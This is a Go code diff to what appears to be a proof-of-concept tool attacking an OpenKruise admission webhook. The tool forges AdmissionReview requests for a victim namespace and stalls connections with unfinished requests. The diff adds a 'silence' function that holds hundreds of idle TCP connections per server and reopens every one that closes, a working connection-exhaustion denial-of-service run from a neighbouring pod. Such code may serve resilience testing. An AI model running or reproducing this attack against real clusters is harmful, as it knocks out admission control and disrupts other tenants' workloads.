@@ -22,11 +22,21 @@ const (
 	stalled = 150
 	// patience with a server that ends nothing.
 	patience = 20 * time.Second
-	path     = "/mutate-apps-kruise-io-containerrecreaterequest"
+	// held is how many silent connections there are to each server, for how long, and when a closed one is opened again.
+	held         = 512
+	quiet, pause = 20 * time.Second, 500 * time.Millisecond
+	path         = "/mutate-apps-kruise-io-containerrecreaterequest"
 )
 
 func main() {
 	victim := os.Getenv("VICTIM")
+	if victim != "" { // a pod, beside another one
+		var all sync.WaitGroup
+		for _, address := range os.Args[1:] {
+			all.Go(func() { fmt.Println("silence:", silence(address)) })
+		}
+		all.Wait()
+	}
 	for _, address := range os.Args[1:] {
 		fmt.Println("forge:", forge(address, victim))
 		fmt.Println("stall:", stall(address))
@@ -64,6 +74,33 @@ func forge(address, victim string) string {
 		"operation":"CREATE","namespace":%q,"resource":{"group":"apps.kruise.io","version":"v1beta1","resource":"containerrecreaterequests"},
 		"object":{"apiVersion":"apps.kruise.io/v1beta1","kind":"ContainerRecreateRequest","metadata":{"name":"a"},
 		"spec":{"podName":"pod","containers":[{"name":"a"}]}}}}`, victim)))
+}
+
+// silence holds connections without a word, and opens another one for each that the server closes.
+func silence(address string) string {
+	ctx, cancel := context.WithTimeout(context.Background(), quiet)
+	defer cancel()
+	var opened, closed atomic.Int64
+	var all sync.WaitGroup
+	for range held {
+		all.Go(func() {
+			for ctx.Err() == nil {
+				if c, err := new(net.Dialer).DialContext(ctx, "tcp", address); err == nil {
+					opened.Add(1)
+					stop := context.AfterFunc(ctx, func() { _ = c.Close() })
+					_, _ = c.Read(make([]byte, 1))
+					stop()
+					_ = c.Close()
+				}
+				if ctx.Err() == nil {
+					closed.Add(1)
+					<-time.After(pause)
+				}
+			}
+		})
+	}
+	all.Wait()
+	return fmt.Sprintf("%d held at a time, %d opened, %d closed by the server or refused", held, opened.Load(), closed.Load())
 }
 
 // stall opens connections with a request that does not end, and waits until the server closes them.
